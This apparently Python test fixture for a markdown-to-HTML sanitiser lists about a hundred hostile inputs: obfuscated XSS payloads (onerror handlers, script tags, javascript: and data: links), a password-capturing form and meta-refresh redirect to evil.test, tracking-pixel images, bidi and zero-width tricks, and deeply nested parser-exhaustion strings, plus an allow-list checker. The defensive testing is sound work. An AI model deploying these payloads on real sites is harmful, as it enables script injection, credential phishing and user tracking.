"""Answers that want more of the page than to be read, by name, and whether markup is harmless."""

import re
from html.parser import HTMLParser
from typing import Final

# Each script would set `window.hacked`, so that a browser can be asked whether any of it ran.
_RUN: Final = "window.hacked=1"

_TAGS: Final = {
    "img onerror": f'<img src=x onerror="{_RUN}">',
    "img onerror inline": f"words <img src=x onerror={_RUN}> and *more*",
    "script": f"<script>{_RUN}</script>",
    "script inline": f"words <script>{_RUN}</script> and *more*",
    "script split": f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    "svg onload": f'<svg onload="{_RUN}"><circle r=1></svg>',
    "svg script": f"<svg><script>{_RUN}</script></svg>",
    "iframe srcdoc": f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    "style": "<style>body { display: none }</style>",
    "style attribute": '<p style="position:fixed;inset:0">over everything</p>',
    "form": '<form action="https://evil.test"><input name="password"><button>Go</button></form>',
    "base": '<base href="https://evil.test/">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
    "object": f'<object data="javascript:{_RUN}"></object><embed src="javascript:{_RUN}">',
    "math": f'<math><mtext><style><img src=x onerror="{_RUN}"></style></mtext></math>',
    "template": f"<template><img src=x onerror={_RUN}></template>",
    "details": f'<details open ontoggle="{_RUN}"><summary>a</summary></details>',
    "anchor": f'<a href="javascript:{_RUN}" onclick="{_RUN}" id="prompt">a</a>',
    "comment": f"<!-- --!><img src=x onerror={_RUN}> -->",
    "cdata": f"<![CDATA[ <img src=x onerror={_RUN}> ]]>",
    "unclosed tag": f'<img src=x onerror="{_RUN}"',
    "closing page": f"</p></div></main></body></html><script>{_RUN}</script>",
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={_RUN}>"></noscript>',
    "entities": f"&lt;img src=x onerror={_RUN}&gt; &#60;script&#62;{_RUN}&#60;/script&#62;",
}

_LINKS: Final = {
    "javascript": f"[a](javascript:{_RUN})",
    "javascript mixed case": f"[a](JaVaScRiPt:{_RUN})",
    "javascript entities": f"[a](&#106;ava&#x73;cript&colon;{_RUN})",
    "javascript tab": f"[a](java\tscript:{_RUN})",
    "javascript tab entity": f"[a](java&Tab;script:{_RUN})",
    "javascript newline": f"[a](java\nscript:{_RUN})",
    "javascript newline entity": f"[a](<java&NewLine;script:{_RUN}>)",
    "javascript control": f"[a](\x01javascript:{_RUN})",
    "javascript control entity": f"[a](&#1;javascript:{_RUN})",
    "javascript percent": f"[a](javascript%3A{_RUN})",
    "javascript backslash": f"[a](java\\script:{_RUN})",
    "data": f"[a](data:text/html,<script>{_RUN}</script>)",
    "data base64": "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "vbscript": "[a](vbscript:msgbox)",
    "file": "[a](file:///etc/passwd)",
    "blob": "[a](blob:https://evil.test/1)",
    "relative": "[a](/v1/users/me) [b](//evil.test) [c](#prompt) [d](?a=b)",
    "quote in address": f"[a](https://a.test/\"onmouseover='{_RUN}')",
    "quote in title": f"[a](https://a.test '\" onmouseover=\"{_RUN}')",
    "tag in title": f'[a](https://a.test "<img src=x onerror={_RUN}>")',
    "tag in link": f"[<img src=x onerror={_RUN}>](https://a.test)",
    "autolink": f"<javascript:{_RUN}>",
    "autolink data": "<data:text/html,a>",
    "autolink quote": f"<https://a.test/\"onclick='{_RUN}'>",
    "reference": f"[a]\n\n[a]: javascript:{_RUN}",
    "reference full": f"[a][b]\n\n[b]: <JAVASCRIPT:{_RUN}> 'title'",
    "reference title": f"[a]\n\n[a]: https://a.test '\"><img src=x onerror={_RUN}>'",
    "image": "![seen](https://evil.test/pixel.png)",
    "image javascript": f"![a](javascript:{_RUN})",
    "image data": f"![a](data:image/svg+xml,<svg onload='{_RUN}'>)",
    "image words": f'![a" onerror="{_RUN}](https://evil.test/"onerror="{_RUN})',
    "image in link": "[![a](https://evil.test/a.png)](https://evil.test)",
    "link in image": "![[a](https://evil.test/a)](https://evil.test/b.png)",
    "image reference": "![a][b]\n\n[b]: https://evil.test/pixel.png",
}

_BLOCKS: Final = {
    "fence": f"```html\n<img src=x onerror={_RUN}></code></pre><script>{_RUN}</script>\n```",
    "fence unknown": f"```nosuch\n<img src=x onerror={_RUN}>\n```",
    "fence info": f'```"><img src=x onerror={_RUN}>\ncode\n```',
    "fence info after a name": f'~~~python"onclick="{_RUN}\ncode\n~~~',
    "fence unclosed": f"words\n\n```js\n</code><script>{_RUN}</script>",
    "indented": f"    <img src=x onerror={_RUN}>",
    "code span": f"`<img src=x onerror={_RUN}>` ``</code><script>{_RUN}</script>``",
    "table": f"|<b onclick={_RUN}>|b|\n|-|:-:|\n|<script>{_RUN}</script>|<td style=x>|",
    "heading": f"# <img src=x onerror={_RUN}>\n\n<h1 id=page>\n===",
    "list": f"- <img src=x onerror={_RUN}>\n99999999. <li value=1>",
    "quotes nested": "> " * 500 + "words",
    "lists nested": "".join("  " * depth + "- a\n" for depth in range(120)) + "words",
    "emphasis nested": "*" * 2_000 + "words" + "*" * 2_000,
    "brackets nested": "[" * 3_000 + "words" + "](https://a.test)" * 20,
    "images nested": "![" * 1_000 + "words" + "](https://a.test)" * 20,
    "table wide": "a|" * 100 + "\n" + "-|" * 100 + "\n" + "|\n" * 500,
}

_CHARACTERS: Final = {
    "right to left": "file \u202egpj.exe\u202c and \u2067more\u2069",
    "right to left entities": "file &#x202e;gpj.exe&#8236; and &#x2067;more",
    "right to left in code": "```\nif a:\u202e return\n```",
    "right to left in a title": "[a](https://a.test '&#x202e;b')",
    "zero width": "pass\u200bword \u200d\u200c\ufeff",
    "zero width scheme": f"[a](java\u200bscript:{_RUN})",
    "nul": "a\x00b <\x00script>c",
    "nul entity": "a &#0; b &#x1b; c",
    "half a pair": "a \ud83d b",
    "long word": "w" * 10_000,
    "long address": "[a](https://a.test/" + "w" * 10_000 + ")",
    "stacked marks": "a" + "\u0301" * 2_000,
}

HOSTILE: Final[dict[str, str]] = {**_TAGS, **_LINKS, **_BLOCKS, **_CHARACTERS}

# Written down anew, not taken from the sanitiser: tests are to see when that list grows.
TEXT_TAGS = {"p", "li", "blockquote", "h3", "h4", "h5", "h6", "td", "th", "pre"}
BARE_TAGS = {"br", "em", "hr", "s", "strong", "table", "tbody", "thead", "tr", "ul", "figcaption"}
ATTRIBUTES = {
    **{tag: {"dir"} for tag in TEXT_TAGS},
    **{tag: set[str]() for tag in BARE_TAGS},
    "a": {"href", "title", "class", "target", "rel"},
    "code": {"class"},
    "div": {"class", "tabindex"},
    "figure": {"class", "data-lang"},
    "ol": {"start"},
    "pre": {"dir", "class", "tabindex"},
    "span": {"class"},
    "td": {"dir", "class"},
    "th": {"dir", "class"},
}
CLASSES = re.compile(r"image|hl|table|code|rest|left|center|right|[a-z][a-z0-9]{0,2}")
ADDRESS = re.compile(r"(https?://|mailto:)[^\s\"<>]+")
TURNED = re.compile("[\x00-\x08\x0b-\x1f\x7f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")
VOID = {"br", "hr"}


class Page(HTMLParser):
    """What a browser would make of the markup: tags with their attributes, and the words."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str]]] = []
        self.words = ""
        self.other: list[str] = []
        self._within: list[str] = []
        self.feed(html)
        self.close()
        self.unclosed = self._within

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {name: value or "" for name, value in attrs}))
        if tag not in VOID:
            self._within.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self._within.pop() == tag

    def handle_data(self, data: str) -> None:
        self.words += data

    def handle_comment(self, data: str) -> None:
        self.other.append(data)

    def handle_decl(self, decl: str) -> None:
        self.other.append(decl)

    def handle_pi(self, data: str) -> None:
        self.other.append(data)

    def unknown_decl(self, data: str) -> None:
        self.other.append(data)

    def all(self, tag: str) -> list[dict[str, str]]:
        return [attributes for name, attributes in self.found if name == tag]


def harmless(html: str) -> Page:
    """Assert that the markup is closed and holds nothing outside the lists; return what it is."""
    page = Page(html)
    assert page.other == []
    assert page.unclosed == []
    assert not TURNED.search(html)
    for tag, attributes in page.found:
        assert set(attributes) <= ATTRIBUTES[tag], tag
        assert attributes.get("dir", "auto") == "auto"
        assert attributes.get("tabindex", "0") == "0"
        for name in attributes.get("class", "").split():
            assert CLASSES.fullmatch(name), name
        if tag == "a":
            assert attributes["target"] == "_blank"
            assert attributes["rel"] == "noopener noreferrer nofollow"
            assert ADDRESS.fullmatch(attributes.get("href", "https://none")), attributes
    return page
